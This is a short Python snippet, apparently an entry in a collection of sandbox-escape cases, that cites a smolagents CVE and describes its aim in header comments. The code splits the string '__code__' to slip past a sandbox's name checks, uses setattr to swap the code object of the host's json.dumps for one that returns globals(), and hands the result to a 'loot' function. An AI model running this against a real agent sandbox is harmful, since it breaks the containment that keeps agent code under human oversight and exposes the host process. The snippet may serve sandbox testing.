# aim: have a function of the host's run other code
# mechanism: its __code__ set by setattr, which looks at no name
# source: CVE-2026-4963 (smolagents)
# language: builtins
# reason: setattr obeys the same table as an assignment
# jail: process
# plain: loot
import json

def other(*arguments, **named):
    return globals()

setattr(json.dumps, "__co" + "de__", getattr(other, "__co" + "de__"))
loot(json.dumps(1))
